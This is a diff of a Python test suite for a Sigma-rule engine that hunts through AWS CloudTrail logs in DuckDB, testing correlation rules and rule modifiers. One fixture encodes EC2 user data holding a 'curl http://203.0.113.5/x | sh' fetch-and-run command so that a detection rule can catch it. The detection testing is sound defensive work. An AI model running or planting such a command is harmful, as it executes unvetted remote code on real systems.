-    body = {"type": "value_count", "rules": ["secret_read"], "group-by": ["userIdentity.arn"],
-            "timespan": "1h", "condition": {"gte": 3, "field": "requestParameters.secretId"}}
+    body = {
+        "type": "value_count",
+        "rules": ["secret_read"],
+        "group-by": ["userIdentity.arn"],
+        "timespan": "1h",
+        "condition": {"gte": 3, "field": "requestParameters.secretId"},
+    }
     corr, _ = _correlation(tmp_path, body, _SECRET_READ)
     assert _run(c, corr) == {"alice0", "alice1", "alice2"}
 
 
 def test_temporal_correlation_needs_every_rule_in_the_bucket(tmp_path):
     c = duckdb.connect()
-    store.insert_records(c, [
-        record("CreateUser", "iam.amazonaws.com", user("mallory"), at(1), event_id="m_user"),
-        record("CreateAccessKey", "iam.amazonaws.com", user("mallory"), at(2), event_id="m_key"),
-        record("CreateUser", "iam.amazonaws.com", user("ops"), at(1), event_id="o_user"),
-        record("CreateAccessKey", "iam.amazonaws.com", user("ops"), at(400), event_id="o_key_late"),
-        record("CreateAccessKey", "iam.amazonaws.com", user("dev"), at(3), event_id="d_key"),
-    ])
-    a = {**_BASE, "title": "a", "name": "new_user", "id": "a", "detection": {"s": {"eventName": "CreateUser"},
-                                                                            "condition": "s"}}
-    b = {**_BASE, "title": "b", "name": "new_key", "id": "b", "detection": {"s": {"eventName": "CreateAccessKey"},
-                                                                           "condition": "s"}}
-    body = {"type": "temporal", "rules": ["new_user", "new_key"], "group-by": ["userIdentity.arn"],
-            "timespan": "1h"}
+    store.insert_records(
+        c,
+        [
+            record("CreateUser", "iam.amazonaws.com", user("mallory"), at(1), event_id="m_user"),
+            record("CreateAccessKey", "iam.amazonaws.com", user("mallory"), at(2), event_id="m_key"),
+            record("CreateUser", "iam.amazonaws.com", user("ops"), at(1), event_id="o_user"),
+            record("CreateAccessKey", "iam.amazonaws.com", user("ops"), at(400), event_id="o_key_late"),
+            record("CreateAccessKey", "iam.amazonaws.com", user("dev"), at(3), event_id="d_key"),
+        ],
+    )
+    a = {
+        **_BASE,
+        "title": "a",
+        "name": "new_user",
+        "id": "a",
+        "detection": {"s": {"eventName": "CreateUser"}, "condition": "s"},
+    }
+    b = {
+        **_BASE,
+        "title": "b",
+        "name": "new_key",
+        "id": "b",
+        "detection": {"s": {"eventName": "CreateAccessKey"}, "condition": "s"},
+    }
+    body = {"type": "temporal", "rules": ["new_user", "new_key"], "group-by": ["userIdentity.arn"], "timespan": "1h"}
     corr, _ = _correlation(tmp_path, body, a, b)
     assert _run(c, corr) == {"m_user", "m_key"}
 
 
 def test_temporal_ordered_correlation_of_two_rules(tmp_path):
     c = duckdb.connect()
-    store.insert_records(c, [
-        record("CreateUser", "iam.amazonaws.com", user("mallory"), at(1), event_id="m_user"),
-        record("CreateAccessKey", "iam.amazonaws.com", user("mallory"), at(2), event_id="m_key"),
-        record("CreateAccessKey", "iam.amazonaws.com", user("ops"), at(1), event_id="o_key_first"),
-        record("CreateUser", "iam.amazonaws.com", user("ops"), at(2), event_id="o_user_after"),
-    ])
-    a = {**_BASE, "title": "a", "name": "new_user", "id": "a", "detection": {"s": {"eventName": "CreateUser"},
-                                                                            "condition": "s"}}
-    b = {**_BASE, "title": "b", "name": "new_key", "id": "b", "detection": {"s": {"eventName": "CreateAccessKey"},
-                                                                           "condition": "s"}}
-    body = {"type": "temporal_ordered", "rules": ["new_user", "new_key"], "group-by": ["userIdentity.arn"],
-            "timespan": "1h"}
+    store.insert_records(
+        c,
+        [
+            record("CreateUser", "iam.amazonaws.com", user("mallory"), at(1), event_id="m_user"),
+            record("CreateAccessKey", "iam.amazonaws.com", user("mallory"), at(2), event_id="m_key"),
+            record("CreateAccessKey", "iam.amazonaws.com", user("ops"), at(1), event_id="o_key_first"),
+            record("CreateUser", "iam.amazonaws.com", user("ops"), at(2), event_id="o_user_after"),
+        ],
+    )
+    a = {
+        **_BASE,
+        "title": "a",
+        "name": "new_user",
+        "id": "a",
+        "detection": {"s": {"eventName": "CreateUser"}, "condition": "s"},
+    }
+    b = {
+        **_BASE,
+        "title": "b",
+        "name": "new_key",
+        "id": "b",
+        "detection": {"s": {"eventName": "CreateAccessKey"}, "condition": "s"},
+    }
+    body = {
+        "type": "temporal_ordered",
+        "rules": ["new_user", "new_key"],
+        "group-by": ["userIdentity.arn"],
+        "timespan": "1h",
+    }
     corr, _ = _correlation(tmp_path, body, a, b)
     assert _run(c, corr) == {"m_user", "m_key"}  # ops created the key before the user: not in order
     assert _agree(c, corr) == 1
@@ -562,18 +873,40 @@ def test_temporal_correlation_with_field_aliases(tmp_path):
     """A user created and then signing in within the hour: the group is the new user's name, read from
     ``requestParameters.userName`` in one rule and ``userIdentity.userName`` in the other."""
     c = duckdb.connect()
-    store.insert_records(c, [
-        record("CreateUser", "iam.amazonaws.com", user("admin"), at(0), event_id="create_bob", rp={"userName": "bob"}),
-        record("ConsoleLogin", "signin.amazonaws.com", user("bob"), at(20), event_id="login_bob"),
-        record("CreateUser", "iam.amazonaws.com", user("admin"), at(0), event_id="create_carl", rp={"userName": "carl"}),
-        record("ConsoleLogin", "signin.amazonaws.com", user("dora"), at(5), event_id="login_dora"),
-    ])
-    a = {**_BASE, "title": "a", "name": "new_user", "id": "a", "detection": {"s": {"eventName": "CreateUser"},
-                                                                            "condition": "s"}}
-    b = {**_BASE, "title": "b", "name": "login", "id": "b", "detection": {"s": {"eventName": "ConsoleLogin"},
-                                                                        "condition": "s"}}
-    body = {"type": "temporal", "rules": ["new_user", "login"], "group-by": ["user"], "timespan": "1h",
-            "aliases": {"user": {"new_user": "requestParameters.userName", "login": "userIdentity.userName"}}}
+    store.insert_records(
+        c,
+        [
+            record(
+                "CreateUser", "iam.amazonaws.com", user("admin"), at(0), event_id="create_bob", rp={"userName": "bob"}
+            ),
+            record("ConsoleLogin", "signin.amazonaws.com", user("bob"), at(20), event_id="login_bob"),
+            record(
+                "CreateUser", "iam.amazonaws.com", user("admin"), at(0), event_id="create_carl", rp={"userName": "carl"}
+            ),
+            record("ConsoleLogin", "signin.amazonaws.com", user("dora"), at(5), event_id="login_dora"),
+        ],
+    )
+    a = {
+        **_BASE,
+        "title": "a",
+        "name": "new_user",
+        "id": "a",
+        "detection": {"s": {"eventName": "CreateUser"}, "condition": "s"},
+    }
+    b = {
+        **_BASE,
+        "title": "b",
+        "name": "login",
+        "id": "b",
+        "detection": {"s": {"eventName": "ConsoleLogin"}, "condition": "s"},
+    }
+    body = {
+        "type": "temporal",
+        "rules": ["new_user", "login"],
+        "group-by": ["user"],
+        "timespan": "1h",
+        "aliases": {"user": {"new_user": "requestParameters.userName", "login": "userIdentity.userName"}},
+    }
     corr, _ = _correlation(tmp_path, body, a, b)
     assert _run(c, corr) == {"create_bob", "login_bob"}
 
@@ -596,17 +929,28 @@ def test_legacy_count_aggregation_runs_as_an_event_count(tmp_path):
 
 
 @settings(max_examples=40, deadline=None)
-@given(events=st.lists(st.tuples(st.sampled_from(["p", "q", "r"]), st.integers(0, 180)), max_size=30),
-       span=st.sampled_from([5, 10, 60]), threshold=st.integers(1, 5))
+@given(
+    events=st.lists(st.tuples(st.sampled_from(["p", "q", "r"]), st.integers(0, 180)), max_size=30),
+    span=st.sampled_from([5, 10, 60]),
+    threshold=st.integers(1, 5),
+)
 def test_event_count_agrees_with_python_buckets(events, span, threshold):
     """The compiled GROUP BY/HAVING against tumbling buckets counted in Python (the ground truth)."""
     c = duckdb.connect()
-    recs = [record("GetSecretValue", "secretsmanager.amazonaws.com", user(who), at(m), event_id=f"e{i}")
-            for i, (who, m) in enumerate(events)]
+    recs = [
+        record("GetSecretValue", "secretsmanager.amazonaws.com", user(who), at(m), event_id=f"e{i}")
+        for i, (who, m) in enumerate(events)
+    ]
     recs.append(record("ListSecrets", "secretsmanager.amazonaws.com", user("p"), at(0), event_id="other"))
     store.insert_records(c, recs)
-    doc = {**_SECRET_READ, "detection": {**_SECRET_READ["detection"], "timeframe": f"{span}m",
-                                         "condition": f"s | count() by userIdentity.arn >= {threshold}"}}
+    doc = {
+        **_SECRET_READ,
+        "detection": {
+            **_SECRET_READ["detection"],
+            "timeframe": f"{span}m",
+            "condition": f"s | count() by userIdentity.arn >= {threshold}",
+        },
+    }
     counts: dict[tuple[str, int], int] = {}
     for who, m in events:
         counts[(who, m // span)] = counts.get((who, m // span), 0) + 1
@@ -615,14 +959,31 @@ def test_event_count_agrees_with_python_buckets(events, span, threshold):
     c.close()
 
 
-@pytest.mark.parametrize("body, message", [
-    ({"type": "temporal_ordered", "rules": ["secret_read", "secret_read", "secret_read"],
-      "group-by": ["userIdentity.arn"], "timespan": "1h"}, "more than two rules"),
-    ({"type": "value_sum", "rules": ["secret_read"], "timespan": "1h",
-      "condition": {"gte": 3, "field": "requestParameters.size"}}, "value_sum"),
-    ({"type": "event_count", "rules": ["nowhere"], "timespan": "1h", "condition": {"gte": 3}}, "nowhere"),
-    ({"type": "event_count", "rules": ["secret_read"], "condition": {"gte": 3}}, "timespan"),
-])
+@pytest.mark.parametrize(
+    "body, message",
+    [
+        (
+            {
+                "type": "temporal_ordered",
+                "rules": ["secret_read", "secret_read", "secret_read"],
+                "group-by": ["userIdentity.arn"],
+                "timespan": "1h",
+            },
+            "more than two rules",
+        ),
+        (
+            {
+                "type": "value_sum",
+                "rules": ["secret_read"],
+                "timespan": "1h",
+                "condition": {"gte": 3, "field": "requestParameters.size"},
+            },
+            "value_sum",
+        ),
+        ({"type": "event_count", "rules": ["nowhere"], "timespan": "1h", "condition": {"gte": 3}}, "nowhere"),
+        ({"type": "event_count", "rules": ["secret_read"], "condition": {"gte": 3}}, "timespan"),
+    ],
+)
 def test_correlations_that_cannot_run_say_why(tmp_path, body, message):
     import yaml
 
@@ -634,10 +995,13 @@ def test_correlations_that_cannot_run_say_why(tmp_path, body, message):
 
 def test_placeholders_fill_expand_values(con):
     r = rule({"s": {"eventName|expand": "%names%"}, "condition": "s"})
-    assert {x[0] for x in con.execute("SELECT event_id FROM events WHERE "
-                                      + compile_rule(r, DUCK, placeholders={"names": ["StopLogging",
-                                                                                      "ListBuckets"]}).where)
-            .fetchall()} == {"stop", "root_list"}
+    assert {
+        x[0]
+        for x in con.execute(
+            "SELECT event_id FROM events WHERE "
+            + compile_rule(r, DUCK, placeholders={"names": ["StopLogging", "ListBuckets"]}).where
+        ).fetchall()
+    } == {"stop", "root_list"}
     with pytest.raises(SigmaError, match="placeholder %names% has no value"):
         compile_rule(r, DUCK)
 
@@ -670,29 +1034,54 @@ def test_pysigma_modifiers_base64_cased_windash_fieldref_startswith():
 
     c = duckdb.connect()
     encoded = base64.b64encode(b"#!/bin/sh\ncurl http://203.0.113.5/x | sh").decode()
-    store.insert_records(c, [
-        record("ModifyInstanceAttribute", "ec2.amazonaws.com", user("a"), at(0), event_id="ud", ua="Boto3/1.34 -x",
-               rp={"userData": {"value": encoded}}),
-        record("ModifyInstanceAttribute", "ec2.amazonaws.com", user("b"), at(1), event_id="benign", ua="boto3/1.34",
-               rp={"userData": {"value": base64.b64encode(b"#!/bin/sh\necho hello").decode()}}),
-    ])
-    assert hits(c, {"s": {"requestParameters.userData.value|base64offset|contains": "curl http"},
-                    "condition": "s"}) == {"ud"}
+    store.insert_records(
+        c,
+        [
+            record(
+                "ModifyInstanceAttribute",
+                "ec2.amazonaws.com",
+                user("a"),
+                at(0),
+                event_id="ud",
+                ua="Boto3/1.34 -x",
+                rp={"userData": {"value": encoded}},
+            ),
+            record(
+                "ModifyInstanceAttribute",
+                "ec2.amazonaws.com",
+                user("b"),
+                at(1),
+                event_id="benign",
+                ua="boto3/1.34",
+                rp={"userData": {"value": base64.b64encode(b"#!/bin/sh\necho hello").decode()}},
+            ),
+        ],
+    )
+    assert hits(
+        c, {"s": {"requestParameters.userData.value|base64offset|contains": "curl http"}, "condition": "s"}
+    ) == {"ud"}
     assert hits(c, {"s": {"userAgent|cased|startswith": "Boto3"}, "condition": "s"}) == {"ud"}
     assert hits(c, {"s": {"userAgent|startswith": "Boto3"}, "condition": "s"}) == {"ud", "benign"}
     assert hits(c, {"s": {"userAgent|windash|contains": "/x"}, "condition": "s"}) == {"ud"}  # '-x' is a variant
     # "boto3/1.34" starts with "b", the user b (case-insensitive); "Boto3/1.34 -x" does not start with "a"
     assert hits(c, {"s": {"userAgent|fieldref|startswith": "userIdentity.userName"}, "condition": "s"}) == {"benign"}
-    assert hits(c, {"s": {"userIdentity.arn|fieldref|endswith": "userIdentity.userName"}, "condition": "s"}) \
-        == {"ud", "benign"}
+    assert hits(c, {"s": {"userIdentity.arn|fieldref|endswith": "userIdentity.userName"}, "condition": "s"}) == {
+        "ud",
+        "benign",
+    }
     c.close()
 
 
 def test_correlation_counts_only_within_the_scope(tmp_path):
     """With the hunt's window as ``scope``, reads outside it do not help a group over the threshold."""
     c = _secret_reads({"alice": [0, 1, 2, 3], "bob": [0, 1, 2, 3]})
-    body = {"type": "event_count", "rules": ["secret_read"], "group-by": ["userIdentity.arn"],
-            "timespan": "1h", "condition": {"gte": 4}}
+    body = {
+        "type": "event_count",
+        "rules": ["secret_read"],
+        "group-by": ["userIdentity.arn"],
+        "timespan": "1h",
+        "condition": {"gte": 4},
+    }
     corr, _ = _correlation(tmp_path, body, _SECRET_READ)
     scope = "event_time >= TIMESTAMPTZ '2026-01-01 00:01:00+00'"
     where = compile_rule(corr, DUCK, scope=scope).where
@@ -712,9 +1101,19 @@ def test_a_correlation_runs_in_the_hunt_and_its_rule_stays_quiet(tmp_path):
 
     c = _secret_reads({"alice": [0, 1, 2, 3, 4], "bob": [0, 1]})
     store.insert_records(c, [record("StopLogging", "cloudtrail.amazonaws.com", user("eve"), at(5), event_id="stop")])
-    corr = {**_BASE, "title": "Many secret reads", "id": "corr", "level": "high",
-            "correlation": {"type": "event_count", "rules": ["secret_read"], "group-by": ["userIdentity.arn"],
-                            "timespan": "10m", "condition": {"gte": 5}}}
+    corr = {
+        **_BASE,
+        "title": "Many secret reads",
+        "id": "corr",
+        "level": "high",
+        "correlation": {
+            "type": "event_count",
+            "rules": ["secret_read"],
+            "group-by": ["userIdentity.arn"],
+            "timespan": "10m",
+            "condition": {"gte": 5},
+        },
+    }
     (tmp_path / "c.yml").write_text(yaml.safe_dump_all([_SECRET_READ, corr]))
     res = hunt(Trail(c), sigma_dirs=[tmp_path])
     det = res.detections.set_index("detection_id")
@@ -743,13 +1142,25 @@ def test_sigmahq_trino_rendering_agrees_with_duckdb(path, con):
 def test_correlation_trino_rendering_agrees_with_duckdb(tmp_path):
     c = _secret_reads({"alice": [0, 1, 2, 3, 4, 65], "bob": [0, 1, 2], "carol": [8, 9, 11, 12]})
     fired = 0
-    for body in ({"type": "event_count", "group-by": ["userIdentity.arn"], "timespan": "10m", "condition": {"gte": 3}},
-                 {"type": "value_count", "group-by": ["userIdentity.arn"], "timespan": "1h",
-                  "condition": {"gte": 3, "field": "requestParameters.secretId"}}):
+    for body in (
+        {"type": "event_count", "group-by": ["userIdentity.arn"], "timespan": "10m", "condition": {"gte": 3}},
+        {
+            "type": "value_count",
+            "group-by": ["userIdentity.arn"],
+            "timespan": "1h",
+            "condition": {"gte": 3, "field": "requestParameters.secretId"},
+        },
+    ):
         corr, _ = _correlation(tmp_path, {**body, "rules": ["secret_read"]}, _SECRET_READ)
         fired += _agree(c, corr)
-    doc = {**_SECRET_READ, "detection": {**_SECRET_READ["detection"], "timeframe": "1h",
-                                         "condition": "s | count() by userIdentity.arn > 3"}}
+    doc = {
+        **_SECRET_READ,
+        "detection": {
+            **_SECRET_READ["detection"],
+            "timeframe": "1h",
+            "condition": "s | count() by userIdentity.arn > 3",
+        },
+    }
     fired += _agree(c, parse_rule(doc))
     # rows per principal: 10m >= 3 events: alice, bob (carol's 4 straddle two buckets); >= 3 distinct
     # secrets in 1h: alice, bob, carol; > 3 events in 1h: alice, carol
